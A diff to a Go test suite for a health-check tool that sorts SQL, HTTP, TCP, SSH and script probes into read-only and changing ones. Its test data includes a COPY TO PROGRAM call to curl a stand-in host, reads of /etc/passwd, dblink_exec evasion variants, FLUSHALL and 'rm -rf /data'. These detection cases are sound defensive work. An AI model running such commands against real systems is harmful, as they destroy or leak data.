@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -39,7 +40,8 @@ func prepared(t testing.TB, strategyID string, config object, collectors map[str
 			c.Collectors = append(c.Collectors, check.Collected{ID: uuid.New(), CollectorID: id, Config: raw(t, one)})
 		}
 	}
-	p, err := r.Prepare(c, check.Scope{System: check.SystemScope{Name: "Shop", Metadata: map[string]any{"call": "dblink_exec('x')"}}}, secrets)
+	p, err := r.Prepare(c, check.Scope{System: check.SystemScope{Name: "Shop",
+		Metadata: map[string]any{"call": "dblink_exec('x')"}}}, secrets)
 	require.NoError(t, err)
 	return p
 }
@@ -51,7 +53,8 @@ func raw(t testing.TB, config object) json.RawMessage {
 	return document
 }
 
-// The kinds that can only read are listed here; one that is added has to say what it sends, and counts as a change until it does.
+// The kinds that can only read are listed here; one that is added has to say what it sends, and counts as a change
+// until it does.
 func TestEveryKindSaysWhatItSends(t *testing.T) {
 	t.Parallel()
 	r := allKinds(t)
@@ -59,12 +62,11 @@ func TestEveryKindSaysWhatItSends(t *testing.T) {
 	for _, s := range r.Strategies() {
 		for _, c := range s.Collectors {
 			config := example(read(t, s.Config))
-			for name, value := range needed[s.ID] {
-				config[name] = value
-			}
+			maps.Copy(config, needed[s.ID])
 			about := example(read(t, c.Config))
 			p, err := r.Prepare(check.Configuration{
-				Strategy: s.ID, Config: raw(t, config), Collectors: []check.Collected{{ID: uuid.New(), CollectorID: c.ID, Config: raw(t, about)}},
+				Strategy: s.ID, Config: raw(t, config),
+				Collectors: []check.Collected{{ID: uuid.New(), CollectorID: c.ID, Config: raw(t, about)}},
 			}, check.Scope{}, map[string]secret.Value{"EXAMPLE": secret.NewValue("__SECRET_EXAMPLE__")})
 			require.NoError(t, err, c.ID)
 			sending := p.Sends()
@@ -79,7 +81,8 @@ func TestEveryKindSaysWhatItSends(t *testing.T) {
 		}
 	}
 	require.ElementsMatch(t, []string{
-		"healthcheck-http.request", "healthcheck-tcp.connection", "healthcheck-tcp.banner", "healthcheck-tls.certificate", "healthcheck-dns.lookup",
+		"healthcheck-http.request", "healthcheck-tcp.connection", "healthcheck-tcp.banner",
+		"healthcheck-tls.certificate", "healthcheck-dns.lookup",
 		"healthcheck-ping.ping", "healthcheck-heartbeat.beat", "healthcheck-postgres.query", "healthcheck-mysql.query",
 	}, reads, "what these send with nothing but what is required changes nothing; of every other kind it is not sure")
 }
@@ -107,7 +110,8 @@ func TestAKindThatSaysNothingCountsAsAChange(t *testing.T) {
 	r, err := check.NewRegistry(silentStrategy())
 	require.NoError(t, err)
 	p, err := r.Prepare(check.Configuration{
-		Strategy: "test.silent", Config: json.RawMessage(`{}`), Collectors: []check.Collected{{ID: uuid.New(), CollectorID: "test.word", Config: json.RawMessage(`{}`)}},
+		Strategy: "test.silent", Config: json.RawMessage(`{}`),
+		Collectors: []check.Collected{{ID: uuid.New(), CollectorID: "test.word", Config: json.RawMessage(`{}`)}},
 	}, check.Scope{}, nil)
 	require.NoError(t, err)
 	require.False(t, p.Sends().Reads)
@@ -118,12 +122,11 @@ func TestWhatOnlyReads(t *testing.T) {
 	t.Parallel()
 	web := func(about object) *check.Prepared {
 		request := object{"url": "http://shop.example/orders"}
-		for name, value := range about {
-			request[name] = value
-		}
+		maps.Copy(request, about)
 		return prepared(t, "healthcheck-http.http", object{}, map[string][]object{"healthcheck-http.request": {request}})
 	}
-	for method, reads := range map[string]bool{"GET": true, "HEAD": true, "OPTIONS": true, "POST": false, "PUT": false, "PATCH": false, "DELETE": false} {
+	for method, reads := range map[string]bool{"GET": true, "HEAD": true, "OPTIONS": true, "POST": false, "PUT": false,
+		"PATCH": false, "DELETE": false} {
 		require.Equal(t, reads, web(object{"method": method}).Sends().Reads, method)
 	}
 	require.True(t, web(nil).Sends().Reads)
@@ -139,7 +142,8 @@ func TestWhatOnlyReads(t *testing.T) {
 	require.False(t, several.Sends().Reads, "one request of several changes something")
 
 	banner := func(send string) *check.Prepared {
-		return prepared(t, "healthcheck-tcp.tcp", object{"host": "shop.example", "port": 6379}, map[string][]object{"healthcheck-tcp.banner": {{"send": send}}})
+		return prepared(t, "healthcheck-tcp.tcp", object{"host": "shop.example", "port": 6379},
+			map[string][]object{"healthcheck-tcp.banner": {{"send": send}}})
 	}
 	require.True(t, banner("").Sends().Reads)
 	require.False(t, banner("FLUSHALL\r\n").Sends().Reads)
@@ -155,24 +159,33 @@ func TestWhichSQLOnlyReads(t *testing.T) {
 			return prepared(t, id+"."+product, config, map[string][]object{id + ".query": {about}}).Sends()
 		}
 		for _, query := range []string{
-			"", "SELECT 1", "select count(*) from orders;", "SHOW server_version", "WITH late AS (SELECT id FROM orders WHERE due < now()) SELECT count(*) FROM late",
+			"", "SELECT 1", "select count(*) from orders;", "SHOW server_version",
+			"WITH late AS (SELECT id FROM orders WHERE due < now()) SELECT count(*) FROM late",
 			"SELECT max(coalesce(total, 0)) FROM (SELECT sum(price) AS total FROM items GROUP BY cart) t WHERE total IN (1, 2)",
 			"SELECT pg_catalog.count(*) FROM orders", "TABLE orders", "SELECT ( 1 )", "(SELECT 1)",
 		} {
 			require.True(t, sends(object{"query": query}).Reads, query)
 		}
 		for _, query := range []string{
-			"INSERT INTO orders VALUES (1)", "UPDATE orders SET paid = true", "DELETE FROM orders", "DROP TABLE orders", "TRUNCATE orders", "CALL pay()", "DO $$BEGIN END$$",
-			"SELECT 1; DELETE FROM orders", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'", "WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone",
-			"SELECT * INTO copied FROM orders", "SELECT 1 INTO OUTFILE '/tmp/x'", "SELECT * FROM orders FOR UPDATE", "SELECT * FROM orders LOCK IN SHARE MODE",
-			"SELECT dblink_exec('host=other', 'DELETE FROM orders')", "SELECT dblink_exec ('x')", "SELECT dblink_exec\n('x')", "SELECT dblink_exec/**/('x')", "SELECT dblink_exec--\n('x')",
-			`SELECT "dblink_exec"('x')`, "SELECT `f`('x')", `SELECT U&"dblink\005fexec"('x')`, "SELECT public.count(1)", "SELECT pg_terminate_backend(1)", "SELECT lo_export(1, '/tmp/x')", "SELECT nextval('ids')",
-			"SELECT pg_sleep(1000)", "SELECT sleep(1000)", "SELECT benchmark(1, 1)", "SELECT load_file('/etc/passwd')", "SELECT pg_read_file('x')", "/*!50000 DROP TABLE orders */", "SELECT 1 /*! INTO OUTFILE '/tmp/x' */",
-			"KILL 7", "SHUTDOWN", "FLUSH TABLES", "SET GLOBAL read_only = 0", "EXPLAIN ANALYZE DELETE FROM orders", "COMMIT", "LISTEN x", "NOTIFY x", "SELECT {{ system.metadata.call }}",
+			"INSERT INTO orders VALUES (1)", "UPDATE orders SET paid = true", "DELETE FROM orders", "DROP TABLE orders",
+			"TRUNCATE orders", "CALL pay()", "DO $$BEGIN END$$",
+			"SELECT 1; DELETE FROM orders", "COPY (SELECT 1) TO PROGRAM 'curl evil.example'",
+			"WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone",
+			"SELECT * INTO copied FROM orders", "SELECT 1 INTO OUTFILE '/tmp/x'", "SELECT * FROM orders FOR UPDATE",
+			"SELECT * FROM orders LOCK IN SHARE MODE",
+			"SELECT dblink_exec('host=other', 'DELETE FROM orders')", "SELECT dblink_exec ('x')",
+			"SELECT dblink_exec\n('x')", "SELECT dblink_exec/**/('x')", "SELECT dblink_exec--\n('x')",
+			`SELECT "dblink_exec"('x')`, "SELECT `f`('x')", `SELECT U&"dblink\005fexec"('x')`, "SELECT public.count(1)",
+			"SELECT pg_terminate_backend(1)", "SELECT lo_export(1, '/tmp/x')", "SELECT nextval('ids')",
+			"SELECT pg_sleep(1000)", "SELECT sleep(1000)", "SELECT benchmark(1, 1)", "SELECT load_file('/etc/passwd')",
+			"SELECT pg_read_file('x')", "/*!50000 DROP TABLE orders */", "SELECT 1 /*! INTO OUTFILE '/tmp/x' */",
+			"KILL 7", "SHUTDOWN", "FLUSH TABLES", "SET GLOBAL read_only = 0", "EXPLAIN ANALYZE DELETE FROM orders",
+			"COMMIT", "LISTEN x", "NOTIFY x", "SELECT {{ system.metadata.call }}",
 		} {
 			sending := sends(object{"query": query})
 			require.False(t, sending.Reads, query)
-			require.Contains(t, strings.Join(sending.Lines, "\n"), strings.ReplaceAll(query, "{{ system.metadata.call }}", "dblink_exec('x')"))
+			require.Contains(t, strings.Join(sending.Lines, "\n"),
+				strings.ReplaceAll(query, "{{ system.metadata.call }}", "dblink_exec('x')"))
 		}
 		require.False(t, sends(object{"query": "SELECT 1", "allowWrites": true}).Reads)
 	}
@@ -180,16 +193,20 @@ func TestWhichSQLOnlyReads(t *testing.T) {
 
 func TestWhatIsSentIsShown(t *testing.T) {
 	t.Parallel()
-	lines := strings.Join(prepared(t, "healthcheck-http.http", object{"proxyUrl": "http://proxy.example:3128"}, map[string][]object{"healthcheck-http.request": {{
-		"url": "http://{{ system.name }}.example/orders/7", "method": "DELETE", "bearerToken": "${{ secrets.PASSWORD }}", "body": strings.Repeat("x", 1000),
-		"headers": []object{{"name": "X-Why", "value": "because"}},
-	}}}).Sends().Lines, "\n")
-	for _, part := range []string{"proxy.example:3128", "DELETE http://Shop.example/orders/7", "X-Why: because", "__SECRET_PASSWORD__", "1000 bytes", "xxx"} {
+	lines := strings.Join(prepared(t, "healthcheck-http.http", object{"proxyUrl": "http://proxy.example:3128"},
+		map[string][]object{"healthcheck-http.request": {{
+			"url": "http://{{ system.name }}.example/orders/7", "method": "DELETE",
+			"bearerToken": "${{ secrets.PASSWORD }}", "body": strings.Repeat("x", 1000),
+			"headers": []object{{"name": "X-Why", "value": "because"}},
+		}}}).Sends().Lines, "\n")
+	for _, part := range []string{"proxy.example:3128", "DELETE http://Shop.example/orders/7", "X-Why: because",
+		"__SECRET_PASSWORD__", "1000 bytes", "xxx"} {
 		require.Contains(t, lines, part)
 	}
 	require.Less(t, len(lines), 700)
 	for id, part := range map[string]string{"healthcheck-ssh.command": "rm -rf /data", "healthcheck-script.execute": "rm -rf /data"} {
-		strategyID, config, about := "healthcheck-ssh.ssh", object{"host": "h.example", "username": "ops", "password": "${{ secrets.PASSWORD }}"}, object{"command": part}
+		strategyID, config, about := "healthcheck-ssh.ssh", object{"host": "h.example", "username": "ops",
+			"password": "${{ secrets.PASSWORD }}"}, object{"command": part}
 		if strings.HasPrefix(id, "healthcheck-script") {
 			strategyID, config, about = "healthcheck-script.script", object{}, object{"script": part}
 		}
@@ -209,14 +226,16 @@ func TestARunThatOnlyReadsSendsNothingElse(t *testing.T) {
 	}))
 	t.Cleanup(server.Close)
 	for _, method := range []string{"GET", "HEAD", "OPTIONS"} {
-		p := prepared(t, "healthcheck-http.http", object{}, map[string][]object{"healthcheck-http.request": {{"url": server.URL, "method": method}}})
+		p := prepared(t, "healthcheck-http.http", object{},
+			map[string][]object{"healthcheck-http.request": {{"url": server.URL, "method": method}}})
 		require.True(t, p.Sends().Reads)
 		require.Equal(t, check.Passed, p.Run(t.Context(), here(t), 0, here(t).Now()).Verdict)
 	}
 	require.Equal(t, []string{"GET 0", "HEAD 0", "OPTIONS 0"}, seen)
 }
 
-// What the words do not tell, the session does: a statement that only reads runs in a transaction that the server keeps from writing.
+// What the words do not tell, the session does: a statement that only reads runs in a transaction that the server keeps
+// from writing.
 func TestTheServerKeepsAQueryFromWriting(t *testing.T) {
 	t.Parallel()
 	p := postgresProbe(t)
